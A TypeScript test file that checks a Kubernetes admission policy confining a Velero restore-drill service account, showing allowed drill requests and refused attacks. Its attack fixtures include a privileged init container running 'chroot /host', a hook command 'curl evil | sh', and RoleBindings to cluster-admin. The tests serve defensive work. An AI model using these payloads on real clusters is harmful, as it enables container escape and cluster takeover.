/**
 * The restore-drill account against its ValidatingAdmissionPolicy: the CEL is evaluated on crafted requests, each
 * attack on the drill account (a Restore of anything into a drill namespace, cluster resources, hooks, privileged namespaces) is refused, and the requests a drill really makes are allowed (drills-script.test.ts runs
 * the script and feeds what it created through the same evaluator).
 */
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { parse } from "yaml";
import { describe, expect, it } from "vitest";
import { parseStackConfig, type StackConfig } from "../components/config";
import { drillAdmissionPolicySpec, DRILL_CLUSTER_RULES, DRILL_FORBIDDEN_RESTORE_FIELDS, DRILL_POLICY_MESSAGES as M, DRILL_RESTORE_FIELDS, drillContentMessage, drillSourceMessage } from "../components/drills/access";
import { buildDrillSpecs, drillRestoreTemplate, scratchRoleBindingTemplate } from "../components/drills/spec";
import { readStackFile } from "../scripts/lib/stack-file";
import { rawConfig, ROOT, type Obj } from "./harness";
import { veleroCrdsAvailable, VELERO_CRDS_DIR } from "./lib/conformance";
import { admit, type AdmissionRequest } from "./lib/vap";

function prodConfig(overrides: Record<string, unknown> = {}): StackConfig {
  const { config, secretKeys } = readStackFile(ROOT, "prod");
  return parseStackConfig({ ...config, ...rawConfig(overrides) }, new Set(secretKeys), "prod");
}

const specs = buildDrillSpecs(prodConfig());
const policy = drillAdmissionPolicySpec(specs, "backup-system") as Obj;
const tenantsSpec = specs.find((s) => s.kind === "tenants")!;
const postgresSpec = specs.find((s) => s.kind === "postgres")!;
const DRILL_USER = { username: "system:serviceaccount:backup-system:restore-drill" };
const SCRATCH = "drill-cust-a-202601031000";
const SOURCE_MSG = drillSourceMessage(specs);
const CONTENT_MSG = drillContentMessage(specs);

const request = (resource: string, operation: AdmissionRequest["operation"], extra: Partial<AdmissionRequest> = {}): AdmissionRequest => {
  const group = resource === "restores" ? "velero.io" : resource === "rolebindings" ? "rbac.authorization.k8s.io" : "";
  return { operation, userInfo: DRILL_USER, resource: { group, version: "v1", resource }, ...extra };
};
const drillNs = (name: string, labels: Record<string, string> = {}) => ({
  apiVersion: "v1",
  kind: "Namespace",
  metadata: { name, labels: { "pod-security.kubernetes.io/enforce": "baseline", "cluster-backup.io/drill": "tenants", "velero.io/exclude-from-backup": "true", ...labels } },
});

/** The Restore the script creates for a drill (template + name, backup, source, mapping). */
function drillRestore(kind: "tenants" | "postgres", source: string, backupName: string, scratch: string): Obj {
  const t = drillRestoreTemplate(kind === "tenants" ? tenantsSpec : postgresSpec, "backup-system") as Obj;
  return { ...t, metadata: { ...t.metadata, name: scratch }, spec: { ...t.spec, backupName, includedNamespaces: [source], namespaceMapping: { [source]: scratch } } };
}
const goodTenants = () => drillRestore("tenants", "cust-a", "tenants-daily-20260102010000", SCRATCH);
const goodPostgres = () => drillRestore("postgres", "postgres", "postgres-backup-20260102040000", "drill-postgres-202601031100");
const createRestore = (restore: Obj) => admit(policy, request("restores", "CREATE", { namespace: "backup-system" }), restore);
const withSpec = (restore: Obj, spec: Obj): Obj => ({ ...restore, spec: { ...restore.spec, ...spec } });

describe("drill policy: what it matches", () => {
  it("namespaces, Restores and RoleBindings, every write, of the drill account only", () => {
    expect(policy.matchConstraints.resourceRules.map((r: Obj) => [r.apiGroups[0], r.resources[0], r.operations])).toEqual([
      ["", "namespaces", ["CREATE", "UPDATE", "DELETE"]],
      ["velero.io", "restores", ["CREATE", "UPDATE", "DELETE"]],
      ["rbac.authorization.k8s.io", "rolebindings", ["CREATE", "UPDATE", "DELETE"]],
    ]);
    expect(policy.failurePolicy).toBe("Fail");
    expect(admit(policy, { ...request("namespaces", "DELETE"), userInfo: { username: "system:serviceaccount:backup-system:velero-server" } }, null, drillNs("cust-1"))).toBe("not matched");
  });
});

describe("drill policy: the drill's own requests are allowed", () => {
  it("scratch namespace create and delete, the tenants and postgres Restores, the scratch RoleBinding, deleting a Restore", () => {
    expect(admit(policy, request("namespaces", "CREATE"), drillNs(SCRATCH))).toEqual([]);
    expect(admit(policy, request("namespaces", "CREATE"), drillNs(SCRATCH, { "pod-security.kubernetes.io/enforce": "restricted", "pod-security.kubernetes.io/warn": "restricted" }))).toEqual([]);
    expect(admit(policy, request("namespaces", "DELETE"), null, drillNs(SCRATCH))).toEqual([]);
    expect(createRestore(goodTenants())).toEqual([]);
    expect(createRestore(goodPostgres())).toEqual([]);
    expect(admit(policy, request("restores", "DELETE", { namespace: "backup-system" }), null, goodTenants())).toEqual([]);
    const binding = { ...scratchRoleBindingTemplate("backup-system"), metadata: { ...scratchRoleBindingTemplate("backup-system").metadata, namespace: SCRATCH } };
    expect(admit(policy, request("rolebindings", "CREATE", { namespace: SCRATCH }), binding, null, drillNs(SCRATCH))).toEqual([]);
  });
});

describe("drill policy: every attack of the issue is refused", () => {
  it("includedNamespaces ['*'] mapped into one drill namespace with includeClusterResources: true", () => {
    const attack = withSpec(goodTenants(), { includedNamespaces: ["*"], namespaceMapping: { "*": SCRATCH }, includeClusterResources: true });
    expect(createRestore(attack)).toEqual([M.oneNamespace, SOURCE_MSG, M.clusterResources]);
  });

  it("a glob such as cust-*, and two namespaces", () => {
    expect(createRestore(withSpec(goodTenants(), { includedNamespaces: ["cust-*"], namespaceMapping: { "cust-*": SCRATCH } }))).toEqual([M.oneNamespace, SOURCE_MSG]);
    expect(createRestore(withSpec(goodTenants(), { includedNamespaces: ["cust-?"], namespaceMapping: { "cust-?": SCRATCH } }))).toEqual([M.oneNamespace, SOURCE_MSG]);
    expect(createRestore(withSpec(goodTenants(), { includedNamespaces: ["cust-a", "cust-b"], namespaceMapping: { "cust-a": SCRATCH, "cust-b": "drill-cust-b-202601031000" } }))).toEqual([M.oneNamespace, SOURCE_MSG, M.mapping]);
  });

  it("kube-system into drill-x with a privileged init container injected through spec.hooks", () => {
    const hooks = {
      resources: [
        {
          name: "pwn",
          includedNamespaces: ["kube-system"],
          postHooks: [{ init: { initContainers: [{ name: "root", image: "busybox", securityContext: { privileged: true }, command: ["sh", "-c", "chroot /host"] }] } }],
        },
      ],
    };
    const attack = withSpec(goodTenants(), { includedNamespaces: ["kube-system"], namespaceMapping: { "kube-system": "drill-kube-system-202601031000" }, hooks });
    expect(createRestore({ ...attack, metadata: { ...attack.metadata, name: "drill-kube-system-202601031000" } })).toEqual([SOURCE_MSG, CONTENT_MSG]);
    // The same hook on an otherwise perfect tenants Restore, and a changed postgres check command.
    expect(createRestore(withSpec(goodTenants(), { hooks }))).toEqual([CONTENT_MSG]);
    const pg = goodPostgres();
    const changed = JSON.parse(JSON.stringify(pg.spec.hooks));
    changed.resources[0].postHooks[0].exec.command = ["/bin/sh", "-c", "curl evil | sh"];
    expect(createRestore(withSpec(pg, { hooks: changed }))).toEqual([CONTENT_MSG]);
    const extra = JSON.parse(JSON.stringify(pg.spec.hooks));
    extra.resources[0].postHooks.push({ init: { initContainers: [{ name: "x", image: "busybox" }] } });
    expect(createRestore(withSpec(pg, { hooks: extra }))).toEqual([CONTENT_MSG]);
  });

  it("a drill-* namespace labelled privileged (enforce, warn or audit), or with no enforce level at all", () => {
    for (const key of ["enforce", "warn", "audit"]) {
      expect(admit(policy, request("namespaces", "CREATE"), drillNs(SCRATCH, { [`pod-security.kubernetes.io/${key}`]: "privileged" }))).toEqual([M.podSecurity]);
      expect(admit(policy, request("namespaces", "UPDATE"), drillNs(SCRATCH, { [`pod-security.kubernetes.io/${key}`]: "privileged" }), drillNs(SCRATCH))).toEqual([M.podSecurity]);
    }
    const bare = drillNs(SCRATCH);
    delete (bare.metadata.labels as Record<string, string>)["pod-security.kubernetes.io/enforce"];
    expect(admit(policy, request("namespaces", "CREATE"), bare)).toEqual([M.podSecurity]);
  });

  it("a source that is no tenant (or not the configured one), a backup of another Schedule, the wrong drill label", () => {
    const to = (source: string) => withSpec({ ...goodTenants(), metadata: { ...goodTenants().metadata, name: `drill-${source}-202601031000` } }, { includedNamespaces: [source], namespaceMapping: { [source]: `drill-${source}-202601031000` } });
    expect(createRestore(to("kube-system"))).toEqual([SOURCE_MSG]);
    expect(createRestore(to("postgres"))).toEqual([SOURCE_MSG]);
    expect(createRestore(to("customer"))).toEqual([SOURCE_MSG]);
    expect(createRestore(withSpec(goodTenants(), { backupName: "system-daily-20260102050000" }))).toEqual([SOURCE_MSG]);
    expect(createRestore(withSpec(goodTenants(), { backupName: "tenants-daily-x" }))).toEqual([SOURCE_MSG]);
    expect(createRestore({ ...goodTenants(), metadata: { ...goodTenants().metadata, labels: { "cluster-backup.io/drill": "postgres" } } })).toEqual([SOURCE_MSG, CONTENT_MSG]);
    const fixed = drillAdmissionPolicySpec(buildDrillSpecs(prodConfig({ drills: { tenants: { namespace: "cust-1001" } } })), "backup-system") as Obj;
    expect(admit(fixed, request("restores", "CREATE"), goodTenants())).toEqual([drillSourceMessage(buildDrillSpecs(prodConfig({ drills: { tenants: { namespace: "cust-1001" } } })))]);
  });

  it("mapping to another namespace than the Restore's name, or to a tenant", () => {
    expect(createRestore(withSpec(goodTenants(), { namespaceMapping: { "cust-a": "drill-other-202601031000" } }))).toEqual([M.mapping]);
    expect(createRestore(withSpec(goodTenants(), { namespaceMapping: { "cust-a": "cust-b" } }))).toEqual([M.mapping]);
    expect(createRestore(withSpec(goodTenants(), { namespaceMapping: {} }))).toEqual([M.mapping]);
  });

  it("resource modifiers, selectors, status restores, scheduleName and the other fields a drill never sets", () => {
    const values: Record<string, unknown> = {
      excludedNamespaces: ["x"],
      includedResources: ["secrets"],
      itemOperationTimeout: "4h",
      labelSelector: { matchLabels: { a: "b" } },
      orLabelSelectors: [{ matchLabels: { a: "b" } }],
      preserveNodePorts: true,
      resourceModifier: { kind: "ConfigMap", name: "evil" },
      restoreStatus: { includedResources: ["*"] },
      scheduleName: "system-daily",
      uploaderConfig: { writeSparseFiles: true },
    };
    expect(Object.keys(values)).toEqual([...DRILL_FORBIDDEN_RESTORE_FIELDS]);
    for (const [field, value] of Object.entries(values)) expect(createRestore(withSpec(goodTenants(), { [field]: value })), field).toEqual([M.forbidden]);
  });

  it("overwriting objects, fewer exclusions (the tenant's Ingresses would take its traffic), no volume data", () => {
    expect(createRestore(withSpec(goodTenants(), { existingResourcePolicy: "update" }))).toEqual([M.existing]);
    const noPolicy = goodTenants();
    delete noPolicy.spec.existingResourcePolicy;
    expect(createRestore(noPolicy)).toEqual([M.existing]);
    expect(createRestore(withSpec(goodTenants(), { excludedResources: [] }))).toEqual([CONTENT_MSG]);
    expect(createRestore(withSpec(goodTenants(), { restorePVs: false }))).toEqual([CONTENT_MSG]);
  });

  it("changing a Restore, changing or deleting a RoleBinding, deleting a tenant or another namespace", () => {
    expect(admit(policy, request("restores", "UPDATE"), goodTenants(), goodTenants())).toEqual([M.noChanges]);
    const binding = { ...scratchRoleBindingTemplate("backup-system"), metadata: { name: "restore-drill", namespace: SCRATCH } };
    expect(admit(policy, request("rolebindings", "DELETE", { namespace: SCRATCH }), null, binding, drillNs(SCRATCH))).toEqual([M.noChanges]);
    expect(admit(policy, request("rolebindings", "UPDATE", { namespace: SCRATCH }), binding, binding, drillNs(SCRATCH))).toEqual([M.noChanges]);
    expect(admit(policy, request("namespaces", "DELETE"), null, { metadata: { name: "cust-1001", labels: { tenant: "true" } } })).toEqual([M.name, M.label]);
    expect(admit(policy, request("namespaces", "DELETE"), null, { metadata: { name: "drill-someone-else" } })).toEqual([M.label]);
    expect(admit(policy, request("namespaces", "CREATE"), drillNs("cust-1001"))).toEqual([M.name]);
  });

  it("a RoleBinding outside a drill namespace, to another role (cluster-admin), or for another subject", () => {
    const binding = (roleRef: Obj, subjects: Obj[]) => ({ apiVersion: "rbac.authorization.k8s.io/v1", kind: "RoleBinding", metadata: { name: "x" }, roleRef, subjects });
    const ours = scratchRoleBindingTemplate("backup-system");
    const rb = (ns: string, object: Obj, nsObject: Obj) => admit(policy, request("rolebindings", "CREATE", { namespace: ns }), object, null, nsObject);
    expect(rb("cust-1001", binding(ours.roleRef, ours.subjects), { metadata: { name: "cust-1001", labels: { tenant: "true" } } })).toEqual([M.rolebinding]);
    expect(rb("drill-unlabelled-202601031000", binding(ours.roleRef, ours.subjects), { metadata: { name: "drill-unlabelled-202601031000" } })).toEqual([M.rolebinding]);
    expect(rb(SCRATCH, binding({ ...ours.roleRef, name: "cluster-admin" }, ours.subjects), drillNs(SCRATCH))).toEqual([M.rolebinding]);
    expect(rb(SCRATCH, binding(ours.roleRef, [{ kind: "ServiceAccount", name: "default", namespace: SCRATCH }]), drillNs(SCRATCH))).toEqual([M.rolebinding]);
    expect(rb(SCRATCH, binding(ours.roleRef, [...ours.subjects, { kind: "Group", name: "system:authenticated", apiGroup: "rbac.authorization.k8s.io" }]), drillNs(SCRATCH))).toEqual([M.rolebinding]);
  });
});

describe("drill policy: the Restore fields it knows are every field of the velero.io CRD", () => {
  it("each RestoreSpec property is either set by the drill (checked for its value) or forbidden", (ctx) => {
    if (!veleroCrdsAvailable()) ctx.skip(`needs the velero.io CRDs (${VELERO_CRDS_DIR})`);
    const crd = parse(readFileSync(join(VELERO_CRDS_DIR, "velero.io_restores.yaml"), "utf8")) as Obj;
    const properties = Object.keys(crd.spec.versions[0].schema.openAPIV3Schema.properties.spec.properties).sort();
    expect(properties).toEqual([...DRILL_RESTORE_FIELDS, ...DRILL_FORBIDDEN_RESTORE_FIELDS].sort());
  });

  it("the cluster-wide rights it guards are all the drill account has cluster-wide", () => {
    expect(DRILL_CLUSTER_RULES.map((r) => `${(r.resources as string[]).join(",")}:${(r.verbs as string[]).join(",")}`)).toEqual([
      "namespaces:get,list,watch,create,delete",
      "rolebindings:create",
      "clusterroles:bind",
    ]);
  });
});
